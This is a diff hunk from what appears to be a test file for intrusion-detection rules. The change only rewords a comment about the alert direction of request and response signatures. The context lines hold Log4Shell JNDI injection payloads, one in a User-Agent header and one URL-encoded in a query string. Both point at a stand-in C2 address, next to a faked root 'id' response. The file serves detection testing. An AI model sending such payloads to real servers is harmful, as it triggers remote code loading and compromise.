@@ -110,8 +110,8 @@ ROOT_ID = http_response(200, "OK", b"uid=0(root) gid=0(root) groups=0(root)\n", 
 WEB_ATTACKER = "203.0.113.10"
 C2 = "203.0.113.99"
 
-# (sids proved, attacker, request, response). The first sid's alert is request-side
-# (attacker -> server); sids in the `response` column fire server -> attacker.
+# (request sids, response sids, request, response), all from WEB_ATTACKER to WEB:80. Request sids
+# alert WEB_ATTACKER -> WEB; response sids alert on what the server sends back, WEB -> WEB_ATTACKER.
 WEB_ATTACKS: list[tuple[tuple[int, ...], tuple[int, ...], bytes, bytes]] = [
     ((9001001,), (), _req("GET", "/", ua=f"${{jndi:ldap://{C2}:1389/Exploit}}"), OK),
     ((9001002,), (), _req("GET", f"/?q=%24%7Bjndi%3Aldap%3A%2F%2F{C2}%2Fa%7D"), OK),
